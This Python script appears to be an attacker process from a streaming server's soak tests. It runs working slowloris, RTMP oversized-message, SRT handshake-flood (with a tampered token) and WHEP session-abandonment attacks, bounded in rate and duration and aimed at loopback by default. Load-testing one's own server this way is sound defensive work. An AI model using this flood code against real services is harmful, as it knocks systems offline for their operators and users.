"""A hostile caller for the soak test: slowloris, RTMP pre-auth, SRT handshake and WHEP session floods at once.

Run as its own process (``python attacker.py --http-port ... --duration 45``) so its sockets and CPU are
not the test's. Every socket is bound to ``--source`` (127.0.0.2 by default), a loopback address other
than the legitimate clients', so per-address limits in the server can tell the two apart. Every attack is
bounded (sockets held, new connections a second, packets a second) so the machine running it stays
usable, and the whole process ends after ``--duration`` seconds whatever happens (an asyncio timeout,
backed by ``SIGALRM``). On exit it prints one JSON object of counters on stdout, so the test can check
that each attack really ran.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import resource
import signal
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from dataclasses import dataclass, field
from typing import Any

MiB = 1024 * 1024
RTMP_MAX_LENGTH = 0xFFFFFF  # a message header's length field is 24 bits: 16 MiB - 1 is the most one can announce


@dataclass
class Stats:
    """What each attack managed; printed as JSON at the end."""

    counters: dict[str, Counter[str]] = field(default_factory=dict)
    held: dict[str, int] = field(default_factory=dict)
    peak_open: dict[str, int] = field(default_factory=dict)  # connecting or connected at once, as we count
    notes: dict[str, dict[str, str]] = field(default_factory=dict)

    def add(self, attack: str, what: str, n: int = 1) -> None:
        self.counters.setdefault(attack, Counter())[what] += n

    def hold(self, attack: str, delta: int) -> None:
        now = self.held.get(attack, 0) + delta
        self.held[attack] = now
        self.peak_open[attack] = max(self.peak_open.get(attack, 0), now)

    def note(self, attack: str, what: str, message: str) -> None:
        """Keep the first message seen for ``what`` (e.g. why a status was refused)."""
        self.notes.setdefault(attack, {}).setdefault(what, message)

    def report(self) -> dict[str, Any]:
        out: dict[str, Any] = {}
        for name, counts in self.counters.items():
            out[name] = dict(counts)
            if name in self.peak_open:  # attacks that hold connections
                out[name]["peak_open"] = self.peak_open[name]
            if name in self.notes:
                out[name]["first_messages"] = self.notes[name]
        return out


class Pacer:
    """At most ``rate`` events a second across every task that shares it (no bursts past one second's worth)."""

    def __init__(self, rate: float) -> None:
        self.interval = 1.0 / rate
        self.next_at = time.monotonic()

    async def wait(self) -> None:
        now = time.monotonic()
        self.next_at = max(self.next_at + self.interval, now - 1.0)
        if self.next_at > now:
            await asyncio.sleep(self.next_at - now)


async def open_tcp(source: str, host: str, port: int, within: float = 5.0) -> tuple[Any, Any]:
    """A TCP connection from ``source`` (bound before connect, so the server sees that address)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setblocking(False)
        sock.bind((source, 0))
        async with asyncio.timeout(within):
            await asyncio.get_running_loop().sock_connect(sock, (host, port))
            return await asyncio.open_connection(sock=sock)
    except BaseException:
        sock.close()
        raise


async def drain_reader(reader: asyncio.StreamReader) -> None:
    """Read and discard whatever the server says until it closes (so our receive buffer never stalls it)."""
    while await reader.read(65536):
        pass


async def keep_slots(
    name: str, slots: int, pacer: Pacer, stats: Stats, one: Callable[[Stats], Awaitable[None]], stop: asyncio.Event
) -> None:
    """Run ``slots`` copies of ``one``; a copy that ends (server closed it) is reopened, paced by ``pacer``."""

    async def slot() -> None:
        while not stop.is_set():
            await pacer.wait()
            if stop.is_set():
                return
            stats.add(name, "opened")
            stats.hold(name, 1)
            try:
                await one(stats)
                stats.add(name, "ended_by_server")
            except (OSError, TimeoutError, asyncio.IncompleteReadError) as exc:
                stats.add(name, f"error_{type(exc).__name__}")
            finally:
                stats.hold(name, -1)
            await asyncio.sleep(0.5 + random.random())  # no hot reconnect loop when the server refuses at once

    async with asyncio.TaskGroup() as tg:
        for _ in range(slots):
            tg.create_task(slot())


# --- slowloris -------------------------------------------------------------------------------------------


def slowloris(args: argparse.Namespace) -> Callable[[Stats], Awaitable[None]]:
    """A request whose headers never end: one more header byte every ``--slowloris-interval`` seconds."""
    head = f"GET /v1/studios HTTP/1.1\r\nHost: 127.0.0.1:{args.http_port}\r\n".encode()
    filler = b"X-Slow-Loris: " + b"a" * 40 + b"\r\n"

    async def one(stats: Stats) -> None:
        reader, writer = await open_tcp(args.source, args.host, args.http_port)
        drain = asyncio.ensure_future(drain_reader(reader))
        try:
            writer.write(head)
            sent = 0
            while not drain.done():
                await asyncio.sleep(args.slowloris_interval * (0.5 + random.random()))
                writer.write(filler[sent % len(filler) : sent % len(filler) + 1])
                await writer.drain()
                sent += 1
                stats.add("slowloris", "bytes_trickled")
            error = drain.exception()
            if error is not None:
                raise error
        finally:
            drain.cancel()
            writer.transport.abort()

    return one


# --- RTMP: handshake, connect, then a huge message that never completes ----------------------------------


def amf0(*values: Any) -> bytes:
    """Just enough AMF0 for a ``connect`` command: strings, numbers, objects."""
    out = bytearray()
    for v in values:
        if isinstance(v, str):
            b = v.encode()
            out += b"\x02" + struct.pack(">H", len(b)) + b
        elif isinstance(v, int | float):
            out += b"\x00" + struct.pack(">d", float(v))
        elif isinstance(v, dict):
            out += b"\x03"
            for k, item in v.items():
                kb = k.encode()
                out += struct.pack(">H", len(kb)) + kb + amf0(item)
            out += b"\x00\x00\x09"
        else:
            raise TypeError(type(v))
    return bytes(out)


def rtmp_chunks(csid: int, type_id: int, payload: bytes, *, length: int | None = None, chunk: int = 128) -> bytes:
    """A fmt-0 message header on ``csid`` (announcing ``length`` bytes) and the first ``payload`` bytes, chunked."""
    size = len(payload) if length is None else length
    if size > RTMP_MAX_LENGTH:
        raise ValueError(f"an RTMP message header cannot announce {size} bytes")
    out = bytearray(struct.pack(">B", csid) + struct.pack(">I", 0)[1:] + struct.pack(">I", size)[1:])
    out += struct.pack(">B", type_id) + struct.pack("<I", 0)
    for i in range(0, len(payload), chunk):
        if i:
            out += struct.pack(">B", 0xC0 | csid)  # fmt 3: continuation of the same message
        out += payload[i : i + chunk]
    return bytes(out)


def rtmp_ping() -> bytes:
    """A user control Ping Request (event 6) on the control chunk stream."""
    return rtmp_chunks(2, 4, struct.pack(">HI", 6, int(time.monotonic() * 1000) & 0xFFFFFFFF))


def rtmp_flood(args: argparse.Namespace, announce: int, label: str) -> Callable[[Stats], Awaitable[None]]:
    tc_url = f"rtmp://{args.host}:{args.rtmp_port}/inputs"
    connect = amf0("connect", 1, {"app": "inputs", "type": "nonprivate", "flashVer": "FMLE/3.0", "tcUrl": tc_url})

    async def one(stats: Stats) -> None:
        reader, writer = await open_tcp(args.source, args.host, args.rtmp_port)
        drain: asyncio.Future[None] | None = None
        try:
            writer.write(b"\x03" + struct.pack(">II", 0, 0) + os.urandom(1528))
            s0s1s2 = await asyncio.wait_for(reader.readexactly(1 + 1536 * 2), 10)
            writer.write(s0s1s2[1:1537])  # C2 echoes S1
            writer.write(rtmp_chunks(3, 20, connect))
            await writer.drain()
            stats.add(label, "handshakes")
            drain = asyncio.ensure_future(drain_reader(reader))
            # a command message announced at ``announce`` bytes; its body arrives a few bytes at a time
            writer.write(rtmp_chunks(3, 20, b"", length=announce))
            await writer.drain()
            stats.add(label, "announced")
            in_chunk = 0
            while not drain.done():
                await asyncio.sleep(args.rtmp_interval * (0.5 + random.random()))
                if in_chunk == 128:  # between chunks: a ping, then the next chunk's fmt-3 header
                    writer.write(rtmp_ping() + b"\xc3")
                    in_chunk = 0
                writer.write(b"\x00" * 16)
                in_chunk += 16
                await writer.drain()
                stats.add(label, "bytes_trickled", 16)
        finally:
            if drain is not None:
                drain.cancel()
            writer.transport.abort()

    return one


# --- SRT: inductions and conclusions that never authorise ------------------------------------------------

HS_INDUCTION = 1
HS_CONCLUSION = 0xFFFFFFFF


def srt_handshake(kind: int, *, version: int, ext: int, cookie: int, socket_id: int, extensions: bytes = b"") -> bytes:
    header = struct.pack(">IIII", 0x80000000, 0, int(time.monotonic() * 1e6) & 0xFFFFFFFF, 0)
    peer = socket.inet_aton("127.0.0.1") + b"\x00" * 12
    body = struct.pack(
        ">IHHIIIIII16s", version, 0, ext, random.getrandbits(31), 1500, 8192, kind, socket_id, cookie, peer
    )
    return header + body + extensions


def srt_extensions(streamid: bytes) -> bytes:
    """HSREQ (SRT 1.5, TSBPD both ways, 120 ms) and SID; libsrt stores the streamid as little-endian words."""
    hsreq = struct.pack(">HHIIHH", 1, 3, 0x010500, 0x3F, 120, 120)
    padded = streamid + b"\x00" * (-len(streamid) % 4)
    words = b"".join(padded[i : i + 4][::-1] for i in range(0, len(padded), 4))
    return hsreq + struct.pack(">HH", 5, len(words) // 4) + words


async def srt_flood(args: argparse.Namespace, stats: Stats, stop: asyncio.Event) -> None:
    """Induction (cookie) then a conclusion whose streamid carries a tampered token, over and over."""
    streamid = f"publish:{args.path}:trax:{tampered(args.read_token)}".encode() if args.read_token else b"publish:x"
    pacer = Pacer(args.srt_rate)
    loop = asyncio.get_running_loop()

    async def caller(n: int) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setblocking(False)
        sock.bind((args.source, 0))
        try:
            while not stop.is_set():
                await pacer.wait()
                sid = random.getrandbits(30) | 1
                sock.sendto(
                    srt_handshake(HS_INDUCTION, version=4, ext=2, cookie=0, socket_id=sid), (args.host, args.srt_port)
                )
                stats.add("srt", "inductions")
                try:
                    answer = await asyncio.wait_for(loop.sock_recv(sock, 2048), 2)
                except TimeoutError:
                    stats.add("srt", "no_answer")
                    continue
                if len(answer) < 64:
                    continue
                cookie = struct.unpack(">I", answer[16 + 28 : 16 + 32])[0]
                if n % 4 == 0:
                    stats.add("srt", "half_open")  # answered, never concluded
                    continue
                conclusion = srt_handshake(
                    HS_CONCLUSION, version=5, ext=0x5, cookie=cookie, socket_id=sid, extensions=srt_extensions(streamid)
                )
                sock.sendto(conclusion, (args.host, args.srt_port))
                stats.add("srt", "conclusions")
                try:
                    reply = await asyncio.wait_for(loop.sock_recv(sock, 2048), 2)
                except TimeoutError:
                    stats.add("srt", "no_answer")
                    continue
                if len(reply) >= 64:
                    kind = struct.unpack(">I", reply[16 + 20 : 16 + 24])[0]
                    stats.add("srt", f"reply_{kind}")  # 1000 + rejection reason, e.g. 2401 for 1401
        finally:
            sock.close()

    async with asyncio.TaskGroup() as tg:
        for n in range(args.srt_callers):
            tg.create_task(caller(n))


def tampered(token: str) -> str:
    """The same token with its signature changed: passes every cheap check, fails the ES256 verification."""
    head, _, sig = token.rpartition(".")
    return f"{head}.{('A' if sig[:1] != 'A' else 'B')}{sig[1:]}"


# --- WHEP: valid offers with a valid read token, never connected -----------------------------------------


def whep_offer() -> str:
    """A browser-like recvonly offer (H.264 + Opus) with fresh ICE credentials and fingerprint."""
    ufrag = os.urandom(4).hex()
    pwd = os.urandom(12).hex()
    fp = ":".join(f"{b:02X}" for b in os.urandom(32))
    common = [f"a=ice-ufrag:{ufrag}", f"a=ice-pwd:{pwd}", f"a=fingerprint:sha-256 {fp}", "a=setup:actpass"]
    lines = [
        "v=0",
        f"o=- {random.getrandbits(62)} 2 IN IP4 127.0.0.1",
        "s=-",
        "t=0 0",
        "a=group:BUNDLE 0 1",
        "a=msid-semantic: WMS",
        "m=video 9 UDP/TLS/RTP/SAVPF 102",
        "c=IN IP4 0.0.0.0",
        "a=rtcp:9 IN IP4 0.0.0.0",
        *common,
        "a=mid:0",
        "a=recvonly",
        "a=rtcp-mux",
        "a=rtpmap:102 H264/90000",
        "a=rtcp-fb:102 nack",
        "a=rtcp-fb:102 nack pli",
        "a=fmtp:102 level-asymmetry-allowed=1;packetization-mode=1;profile-level-id=42e01f",
        "m=audio 9 UDP/TLS/RTP/SAVPF 111",
        "c=IN IP4 0.0.0.0",
        "a=rtcp:9 IN IP4 0.0.0.0",
        *common,
        "a=mid:1",
        "a=recvonly",
        "a=rtcp-mux",
        "a=rtpmap:111 opus/48000/2",
        "a=fmtp:111 minptime=10;useinbandfec=1",
    ]
    return "\r\n".join(lines) + "\r\n"


async def whep_post(args: argparse.Namespace) -> tuple[int, str]:
    """POST one offer over a fresh connection: (HTTP status, error message if any). The session is abandoned."""
    body = whep_offer().encode()
    request = (
        f"POST /{args.path}/whep HTTP/1.1\r\nHost: {args.host}:{args.whep_port}\r\n"
        f"Authorization: Bearer {args.read_token}\r\nContent-Type: application/sdp\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    reader, writer = await open_tcp(args.source, args.host, args.whep_port)
    try:
        writer.write(request)
        await writer.drain()
        async with asyncio.timeout(15):
            parts = (await reader.readline()).split()
            status = int(parts[1]) if len(parts) >= 2 and parts[1].isdigit() else 0
            if status in (0, 201):
                return status, ""
            answer = await reader.read(8192)  # the rest of the headers and a small JSON error
        return status, _error_message(answer)
    finally:
        writer.transport.abort()


def _error_message(answer: bytes) -> str:
    _, _, body = answer.partition(b"\r\n\r\n")
    try:
        return str(json.loads(body)["error"]["message"])[:200]
    except (ValueError, KeyError, TypeError):
        return body[:200].decode(errors="replace")


async def whep_flood(args: argparse.Namespace, stats: Stats, stop: asyncio.Event) -> None:
    pacer = Pacer(args.whep_rate)

    async def worker() -> None:
        while not stop.is_set():
            await pacer.wait()
            try:
                status, message = await whep_post(args)
                stats.add("whep", f"status_{status}")
                if message:
                    stats.note("whep", f"status_{status}", message)
            except (OSError, TimeoutError) as exc:
                stats.add("whep", f"error_{type(exc).__name__}")

    async with asyncio.TaskGroup() as tg:
        for _ in range(args.whep_concurrency):
            tg.create_task(worker())


# --- main --------------------------------------------------------------------------------------------------


def socket_budget(args: argparse.Namespace) -> None:
    """Raise the soft fd limit to the hard one, and refuse a plan that would take more than half of it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        soft = hard
    planned = args.slowloris + 2 * args.rtmp + args.srt_callers + args.whep_concurrency + 64
    if planned > soft // 2:
        sys.exit(f"attacker: {planned} sockets planned but the fd limit is {soft}; lower the counts")


async def attack(args: argparse.Namespace, stats: Stats) -> None:
    stop = asyncio.Event()
    jobs: list[Coroutine[Any, Any, None]] = []
    if args.slowloris and args.http_port:
        jobs.append(keep_slots("slowloris", args.slowloris, Pacer(args.open_rate), stats, slowloris(args), stop))
    if args.rtmp and args.rtmp_port:
        pacer = Pacer(args.open_rate / 4)  # each costs a 3 KB handshake on both sides
        over, under = args.rtmp // 2, args.rtmp - args.rtmp // 2
        jobs.append(
            keep_slots("rtmp_over_cap", over, pacer, stats, rtmp_flood(args, RTMP_MAX_LENGTH, "rtmp_over_cap"), stop)
        )
        held = rtmp_flood(args, args.rtmp_held_size, "rtmp_under_cap")
        jobs.append(keep_slots("rtmp_under_cap", under, pacer, stats, held, stop))
    if args.srt_callers and args.srt_port:
        jobs.append(srt_flood(args, stats, stop))
    if args.whep_concurrency and args.whep_port and args.read_token and args.path:
        jobs.append(whep_flood(args, stats, stop))

    async def run_all() -> None:
        async with asyncio.TaskGroup() as tg:
            for job in jobs:
                tg.create_task(job)

    task = asyncio.ensure_future(run_all())
    await asyncio.sleep(args.duration)
    stop.set()
    task.cancel()  # every socket is closed by the finally blocks as the tasks unwind
    with contextlib.suppress(asyncio.CancelledError, Exception):
        await asyncio.wait_for(task, 10)


def parse(argv: list[str] | None = None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1", help="the server's address")
    p.add_argument("--source", default="127.0.0.2", help="the address every attacking socket is bound to")
    p.add_argument("--duration", type=float, required=True, help="seconds; the process ends after this")
    p.add_argument("--http-port", type=int, default=0)
    p.add_argument("--rtmp-port", type=int, default=0)
    p.add_argument("--srt-port", type=int, default=0)
    p.add_argument("--whep-port", type=int, default=0)
    p.add_argument("--path", default="", help="a provisioned stream path with a publisher (WHEP, SRT)")
    p.add_argument("--read-token", default="", help="a valid read token for --path (WHEP; tampered for SRT)")
    p.add_argument("--open-rate", type=float, default=400.0, help="new slowloris connections a second")
    p.add_argument("--slowloris", type=int, default=2000, help="sockets held open to the HTTP port")
    p.add_argument("--slowloris-interval", type=float, default=4.0, help="seconds between header bytes")
    p.add_argument(
        "--rtmp", type=int, default=400, help="RTMP sockets: half announce 16 MiB - 1, half --rtmp-held-size"
    )
    p.add_argument("--rtmp-held-size", type=int, default=8 * MiB - 1024, help="just under the default cap")
    p.add_argument("--rtmp-interval", type=float, default=2.0, help="seconds between trickled writes")
    p.add_argument("--srt-callers", type=int, default=8, help="UDP sockets sending handshakes")
    p.add_argument("--srt-rate", type=float, default=200.0, help="inductions a second, all callers together")
    p.add_argument("--whep-concurrency", type=int, default=4, help="offers in flight at once")
    p.add_argument("--whep-rate", type=float, default=20.0, help="offers a second")
    return p.parse_args(argv)


def main(argv: list[str] | None = None) -> None:
    args = parse(argv)
    socket_budget(args)
    # the last resort if the event loop ever wedges: the kernel ends us a little after the duration
    signal.alarm(int(args.duration) + 20)
    stats = Stats()
    started = time.monotonic()
    asyncio.run(attack(args, stats))
    report = {"seconds": round(time.monotonic() - started, 1), "source": args.source, **stats.report()}
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
